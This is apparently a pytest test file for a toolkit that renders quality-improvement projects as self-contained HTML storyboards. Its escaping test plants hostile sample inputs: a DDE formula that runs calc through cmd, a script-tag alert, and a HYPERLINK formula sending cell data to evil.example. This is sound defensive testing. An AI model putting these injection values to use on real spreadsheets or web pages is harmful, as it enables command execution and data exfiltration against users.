"""Tests for qikit.plot.storyboard: the one-page HTML storyboard of a project."""

from __future__ import annotations

import base64
import datetime as dt
import re
import warnings
from html.parser import HTMLParser

import numpy as np
import pandas as pd
import pytest

from qikit.errors import InputError, ProjectFileError
from qikit.improve import (
    DriverDiagram,
    Measure,
    Project,
    example_measures,
    example_project,
    example_ramp,
)
from qikit.plot.html import alt_text
from qikit.plot.storyboard import TITLE_WIDTH, storyboard_html
from tests.improve.samples import EVIL, SCRIPT


class _Checker(HTMLParser):
    """Collects tags, attributes and text, and checks that elements nest properly."""

    VOID = {"meta", "img", "br", "hr", "link", "input"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.stack: list[str] = []
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.headings: list[tuple[str, str]] = []
        self._heading: str | None = None

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag not in self.VOID:
            self.stack.append(tag)
        if tag in {"h1", "h2", "h3"}:
            self._heading = tag
            self.headings.append((tag, ""))

    def handle_endtag(self, tag):
        assert self.stack and self.stack[-1] == tag, (
            f"</{tag}> closes {self.stack[-1:]}"
        )
        self.stack.pop()
        if tag == self._heading:
            self._heading = None

    def handle_data(self, data):
        self.text.append(data)
        if self._heading:
            tag, text = self.headings[-1]
            self.headings[-1] = (tag, text + data)


def parse(page: str) -> _Checker:
    checker = _Checker()
    checker.feed(page)
    checker.close()
    assert checker.stack == [], f"unclosed: {checker.stack}"
    return checker


def images(page: str) -> list[dict]:
    return [attrs for tag, attrs in parse(page).tags if tag == "img"]


def chart_of(measure: Measure, **kwargs):
    """The chart the storyboard draws for a measure (a run chart by default)."""
    options = {"chart": "run", "xlab": "", "rules": "anhoej"}
    options.update(kwargs)
    options["title"] = options.get("title", measure.name)
    return measure.chart(**options)


@pytest.fixture(scope="module")
def page() -> str:
    return storyboard_html(example_project(), dpi=40)


def evil_project() -> Project:
    project = example_project()
    project.name, project.team, project.members = EVIL[0], EVIL[3], EVIL[:3]
    project.notes[0].text = SCRIPT
    project.measures[2].name = "=cmd|' /C calc'!A0"
    project.pdsa_cycles[0].objective = "@evil " + SCRIPT
    project.aim.what = "=1+2 " + SCRIPT
    project.driver_diagram.nodes[0].text = "+danger " + SCRIPT
    return project


class TestPage:
    def test_structure(self, page):
        assert page.startswith('<!DOCTYPE html>\n<html lang="en-GB">')
        checker = parse(page)
        assert [h for h in checker.headings if h[0] != "h3"] == [
            ("h1", "Fewer pressure ulcers in Ashgrove House"),
            ("h2", "Aim: what are we trying to accomplish?"),
            ("h2", "Driver diagram: what changes can we make?"),
            ("h2", "Measures: how will we know that a change is an improvement?"),
            ("h2", "PDSA cycles: testing the changes"),
            ("h2", "Key learning"),
        ]
        names = [m.name for m in example_project().measures]
        assert [t for tag, t in checker.headings if tag == "h3"] == names
        tags = [tag for tag, _ in checker.tags]
        for tag in ("header", "main", "footer", "section", "figure", "table", "dl"):
            assert tag in tags
        assert '<meta charset="utf-8">' in page

    def test_self_contained(self, page):
        checker = parse(page)
        lowered = page.lower()
        assert "<script" not in lowered and "<link" not in lowered
        assert "@import" not in lowered and "url(" not in lowered
        assert "http://" not in lowered and "https://" not in lowered
        for tag, attrs in checker.tags:
            for name in ("src", "href", "srcset", "poster", "data"):
                if name in attrs:
                    assert attrs[name].startswith(("data:", "#")), (tag, name)

    def test_images_are_inline_pngs_with_alt_text(self, page):
        found = images(page)
        assert len(found) == 5  # the driver diagram, three charts and the ramp
        for attrs in found:
            assert attrs["src"].startswith("data:image/png;base64,")
            data = base64.b64decode(attrs["src"].split(",", 1)[1], validate=True)
            assert data.startswith(b"\x89PNG\r\n\x1a\n")
            assert attrs.get("alt", "").strip()
        assert found[0]["alt"].startswith("Driver diagram. Aim: ")
        assert "Change idea: Repositioning clock by the bed" in found[0]["alt"]
        measure = example_project().measures[0]
        assert found[1]["alt"] == alt_text(chart_of(measure))
        assert found[4]["alt"].startswith(
            "Ramp of PDSA cycles testing Repositioning clock by the bed. cycle 1: one "
            "resident, adapt; cycle 2: three residents, adapt;"
        )

    def test_findings_are_printed_under_each_chart(self, page):
        text = " ".join(parse(page).text)
        assert page.count("What the chart shows:") == 3
        for measure in example_project().measures:
            for line in chart_of(measure).explain().splitlines():
                if line.strip():
                    assert line.strip() in text

    def test_operational_definitions_are_shown(self, page):
        text = " ".join(parse(page).text)
        for measure in example_project().measures:
            for part in measure.definition.to_dict().values():
                if part:
                    assert part in text
        assert page.count('aria-label="Operational definition"') == 3

    def test_measures_are_named_by_name_in_the_driver_diagram(self, page):
        alt = images(page)[0]["alt"]
        assert "measures: New pressure ulcers per 1,000 occupied bed days" in alt
        assert "measures: pressure-ulcers" not in alt and "sskin-bundle" not in alt

    def test_pdsa_cycles_marked_and_logged(self, page):
        assert (
            page.count(
                "Flags mark the start of PDSA cycles 1–4 (numbers as in the PDSA log)."
            )
            == 3
        )
        text = " ".join(parse(page).text)
        for cycle in example_project().pdsa_cycles:
            assert cycle.objective in text
        assert "4 March 2024 – 8 March 2024" in text
        assert "Repositioning clock by the bed" in text  # change idea text, not its id
        assert "Night staff found the clock easy to use." in text
        assert "(9 March 2024, Aisha)" in text
        assert "Agency staff need a briefing" not in text  # not key learning

    def test_print_layout(self, page):
        assert "@media print" in page and "@page { size: A4" in page
        assert re.search(r"break-inside:\s*avoid", page)


class TestContent:
    def test_text_is_escaped(self):
        page = storyboard_html(evil_project(), dpi=30)
        parse(page)
        assert "<script>" not in page
        assert (
            "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; &amp; &quot;quotes&quot;"
            in page
        )
        assert "<title>=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1" in page

    def test_written_to_a_file(self, tmp_path):
        path = tmp_path / "story.html"
        page = storyboard_html(Project("Falls", notes=["Huddles help"]), path)
        assert path.read_text(encoding="utf-8") == page

    def test_a_folder_that_does_not_exist(self, tmp_path):
        with pytest.raises(ProjectFileError, match="does not exist"):
            storyboard_html(Project("x"), tmp_path / "no" / "story.html")

    def test_empty_project(self):
        page = storyboard_html(Project(""))
        checker = parse(page)
        assert checker.headings[0] == ("h1", "Improvement project")
        assert not [t for t, _ in checker.tags if t == "img"]
        for text in (
            "No aim yet: what are we trying to accomplish?",
            "No driver diagram yet.",
            "No measures yet.",
            "No PDSA cycles yet.",
            "No key learning recorded yet.",
        ):
            assert text in page

    def test_notes_stand_in_for_key_learning(self):
        page = storyboard_html(Project("x", notes=["First huddle held"]))
        assert "No note is marked as key learning yet; these are the team's notes." in (
            page.replace("&#x27;", "'")
        )
        assert "First huddle held" in page

    def test_measures_without_data_dates_or_definition(self):
        numbers = pd.DataFrame({"x": range(1, 21), "y": np.arange(20) % 7})
        project = Project(
            "x",
            measures=[
                Measure("Empty", kind="outcome"),
                Measure("Weeks", kind="process", data=numbers, unit="%"),
            ],
            pdsa_cycles=[example_ramp().cycles[0]],
        )
        page = storyboard_html(project, dpi=30)
        assert "No data yet: add points to see the chart." in page
        assert (
            "PDSA cycles are not marked: this measure&#x27;s points are not dates."
            in page
        )
        assert "Process measure; unit: %; higher is better; Anhøj rules." in page
        assert page.count("No operational definition yet: write down exactly") == 2

    def test_engine_warnings_are_shown_under_the_chart(self):
        data = pd.DataFrame(
            {
                "x": pd.date_range("2024-01-01", periods=5, freq="W"),
                "y": [1, 2, 3, 4, 5],
            }
        )
        project = Project("x", measures=[Measure("Short", kind="outcome", data=data)])
        with warnings.catch_warnings():
            warnings.simplefilter("error")  # nothing escapes to the learner's screen
            page = storyboard_html(project, dpi=30)
        assert "This chart has only 5 usable points, fewer than the 12" in page

    def test_a_chart_that_cannot_be_drawn(self, monkeypatch):
        def refuse(self, **kwargs):
            raise InputError("`y`: too few points (got 1). Add more data.")

        monkeypatch.setattr(Measure, "chart", refuse)
        page = storyboard_html(Project("x", measures=example_measures()[:1]), dpi=30)
        assert (
            "The chart could not be drawn: `y`: too few points (got 1). Add more data."
            in page
        )

    def test_each_measures_own_chart(self):
        project = example_project()
        project.measures, project.driver_diagram = project.measures[:1], None
        page = storyboard_html(project, chart="measure", dpi=30)
        result = chart_of(project.measures[0], chart="u")
        assert images(page)[0]["alt"] == alt_text(result)
        assert alt_text(result).startswith("U chart")

    def test_cycles_outside_the_data_are_not_marked(self):
        project = example_project()
        project.pdsa_cycles[0].start = dt.date(2030, 1, 1)
        project.pdsa_cycles[0].end = None
        page = storyboard_html(project, dpi=30)
        assert "Flags mark the start of PDSA cycles 2–4 (" in page
        assert (
            "PDSA cycle(s) 1 have a start date outside the chart&#x27;s dates (1 April "
            "2023 to 1 March 2025) and are not marked on it." in page
        )

    def test_cycles_linked_to_another_measure_only(self):
        diagram = DriverDiagram(aim="Aim")
        primary = diagram.add_primary("Driver")
        secondary = diagram.add_secondary("Secondary", parent=primary)
        idea = diagram.add_change_idea("Idea", parent=secondary, measures=["overtime"])
        project = example_project()
        project.driver_diagram = diagram
        for cycle in project.pdsa_cycles:
            cycle.change_idea = idea
        project.pdsa_cycles[1].change_idea = ""
        page = storyboard_html(project, dpi=30)
        assert page.count("Flags mark the start of PDSA cycles 1, 3, 4 (") == 1
        assert page.count("Flags mark the start of PDSA cycles 1–4 (") == 2
        assert page.count("Ramp of PDSA cycles testing Idea.") == 1
        assert page.count("Ramp of PDSA cycles not linked to a change idea.") == 1


class TestChartOptions:
    @pytest.fixture
    def seen(self, monkeypatch):
        calls: list[dict] = []
        real = Measure.chart

        def spy(self, **kwargs):
            calls.append(kwargs)
            return real(self, **kwargs)

        monkeypatch.setattr(Measure, "chart", spy)
        return calls

    def test_the_project_chooses_the_rule_set(self, seen):
        project = example_project()
        project.rules = "ihi"  # Scottish programmes teach the IHI rules
        project.measures[2].rules = "anhoej"  # a measure may choose its own
        page = storyboard_html(project, dpi=30)
        assert [call["rules"] for call in seen] == ["ihi", "ihi", "anhoej"]
        assert page.count("IHI rules.") == 2 and page.count("Anhøj rules.") == 1

    def test_the_storyboard_can_choose_for_every_chart(self, seen):
        storyboard_html(example_project(), rules="Making data count", dpi=30)
        assert [call["rules"] for call in seen] == ["mdc"] * 3

    def test_long_titles_wrap(self, seen):
        project = Project("x", measures=example_measures()[:1])
        project.measures[0].name = "A very long measure name " * 6
        storyboard_html(project, dpi=30)
        lines = seen[0]["title"].splitlines()
        assert len(lines) > 1 and max(map(len, lines)) <= TITLE_WIDTH


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        (
            {"chart": "p"},
            "`chart`: is not one of the choices (got 'p'). Use 'run' for run charts, "
            "or 'measure' for each measure's own chart type.",
        ),
        (
            {"dpi": 5},
            "`dpi`: must be a whole number from 30 to 600 (got 5). Use 110 for the "
            "screen or 200 for print.",
        ),
        (
            {"dpi": 100.0},
            "`dpi`: must be a whole number from 30 to 600 (got 100.0). Use 110 for "
            "the screen or 200 for print.",
        ),
        (
            {"rules": "nelson"},
            "`rules`: is not one of the choices (got 'nelson'). Use one of: "
            "'anhoej', 'ihi', 'mdc', 'western_electric'.",
        ),
    ],
)
def test_argument_messages(kwargs, message):
    with pytest.raises(InputError) as info:
        storyboard_html(Project("x"), **kwargs)
    assert str(info.value) == message


def test_not_a_project():
    with pytest.raises(InputError) as info:
        storyboard_html(None)
    assert str(info.value) == (
        "`project`: must be a Project (got None). Build one with Project(name, ...) "
        "or load_project(path)."
    )
